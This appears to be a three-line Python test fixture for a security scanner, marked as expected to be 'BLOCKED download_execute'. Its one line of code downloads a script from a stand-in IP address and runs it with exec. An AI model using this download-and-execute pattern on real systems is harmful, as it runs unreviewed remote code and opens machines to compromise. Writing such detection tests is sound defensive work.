# expect: BLOCKED download_execute
import urllib.request
exec(urllib.request.urlopen("http://203.0.113.5/stage2.py").read())
